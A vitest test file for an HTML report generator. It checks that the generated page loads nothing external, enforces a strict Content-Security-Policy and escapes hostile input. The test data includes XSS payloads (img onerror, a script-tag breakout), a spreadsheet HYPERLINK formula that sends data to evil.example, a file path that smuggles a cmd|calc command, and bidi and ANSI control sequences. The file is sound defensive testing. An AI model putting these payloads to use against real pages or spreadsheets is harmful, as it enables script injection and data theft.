import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import type { Report } from '../../main/contract/report.ts';
import { htmlReport } from '../../main/report/html/document.ts';
import { html, lines } from '../../main/report/html/markup.ts';
import { Evidence, HOSTILE } from './evidence.ts';

// The evidence is made by a real scan, whose threads start slowly beside other work.
vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

let evidence: Evidence;
let report: Report;
let page: string;
beforeAll(async () => {
  evidence = await Evidence.make();
  report = await evidence.report();
  page = htmlReport(report);
});
afterAll(async () => {
  await evidence[Symbol.asyncDispose]();
});

const all = (pattern: RegExp): string[] => [...page.matchAll(pattern)].map(([, group = '']) => group);

describe('one file that needs nothing else', () => {
  test('no script, and nothing that would load anything', () => {
    expect(all(/<(script|link|iframe|object|embed|img|video|audio|base|form)\b/gi)).toEqual([]);
    expect(all(/\s(on\w+)\s*=\s*"/gi)).toEqual([]);
    expect(all(/\s(?:src|href|action|data|poster|srcset)="([^#"][^"]*)"/gi)).toEqual([]);
    expect(all(/(url\((?!#)[^)]*\)|@import)/gi)).toEqual([]);
  });

  test('its policy allows the one style that is in it, by its hash, and nothing more', () => {
    const [style = ''] = all(/<style>([\s\S]*?)<\/style>/g);
    const hash = createHash('sha256').update(style).digest('base64');
    expect(all(/http-equiv="Content-Security-Policy" content="([^"]*)"/g)).toEqual([
      `default-src &#39;none&#39;; style-src &#39;sha256-${hash}&#39;; base-uri &#39;none&#39;; form-action &#39;none&#39;`,
    ]);
    expect(all(/\s(style)="/g)).toEqual([]);
  });
});

describe('names that mean harm are text', () => {
  test.each([
    [HOSTILE.label, '&lt;img src=x onerror=alert(1)&gt;'],
    [HOSTILE.company, '=HYPERLINK(&quot;http://evil.example/?leak&quot;,&quot;click&quot;)'],
    [HOSTILE.reason, '&lt;/script&gt;&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; [evil]'],
    [HOSTILE.path, 'D:\\Games\\+cmd|calc \\u202egnp.exe'],
    [HOSTILE.process, '-2+3\\u001b[31m.exe'],
  ])('%j', (raw, shown) => {
    expect(page).toContain(shown);
    expect(page).not.toContain(raw);
  });

  test('no control character and no directional override is left in the whole file', () => {
    expect(page.match(/(?!\n)[\p{Cc}\p{Bidi_Control}]/u)).toBeNull();
  });

  test('a note keeps its lines', () => {
    expect(page).toContain('=1+1<br>&lt;script&gt;alert(2)&lt;/script&gt;<br># Title @admin');
  });
});

describe('structure', () => {
  test('headings go down one step at a time, from one at the top', () => {
    const levels = all(/<h([1-6])\b/g).map(Number);
    expect(levels.filter((level) => level === 1)).toHaveLength(1);
    expect(levels.filter((level, index) => index > 0 && level > (levels[index - 1] ?? 0) + 1)).toEqual([]);
  });

  test('every id is there once, and every link leads to one', () => {
    const ids = all(/\sid="([^"]*)"/g);
    expect(new Set(ids).size).toBe(ids.length);
    expect(all(/\shref="#([^"]*)"/g).filter((id) => !ids.includes(id))).toEqual([]);
  });

  test('every header of a table says what it heads, and every picture has a title and a description', () => {
    expect(all(/<(th)\b(?![^>]*\sscope="(?:col|row)")/g)).toEqual([]);
    const pictures = all(/<svg role="img"([\s\S]*?)<\/svg>/g);
    expect(pictures.length).toBeGreaterThanOrEqual(7); // five stacks, two timelines, an audit
    expect(pictures.filter((each) => !/<title id="[^"]+">[^<]+<\/title>\s*<desc id="[^"]+">[^<]+<\/desc>/.test(each))).toEqual([]);
  });

  test('what was seen and what is concluded are set apart, and a suspicion says so in its heading', () => {
    expect(page).toContain('<div class="seen"><h5>Seen</h5>');
    expect(page).toContain('<div class="concluded"><h5>Concluded</h5>');
    expect(page).toMatch(/<h4>Older\.sys lacks the opt-in bit and may be next <span class="tag">concluded, nobody said it<\/span>/);
  });
});

describe('the template', () => {
  test.each([
    ['content', html`<p>${'<b>&'}</p>`, '<p>&lt;b&gt;&amp;</p>'],
    ['an attribute', html`<p title="${'" onclick="x'}">`, '<p title="&quot; onclick=&quot;x">'],
    ['a list of pieces', html`<ul>${['<', '>'].map((each) => html`<li>${each}</li>`)}</ul>`, '<ul><li>&lt;</li><li>&gt;</li></ul>'],
    ['markup in markup stays', html`<p>${html`<b>${'<'}</b>`}</p>`, '<p><b>&lt;</b></p>'],
    ['nothing', html`<p>${null}${undefined}</p>`, '<p></p>'],
    ['half a character', html`${'\uD800'}`, '\\ud800'],
    ['lines', lines('a\r\n<b>\n\u202e'), 'a<br>&lt;b&gt;<br>\\u202e'],
  ])('%s', (_name, made, expected) => {
    expect(made.text).toBe(expected);
  });
});
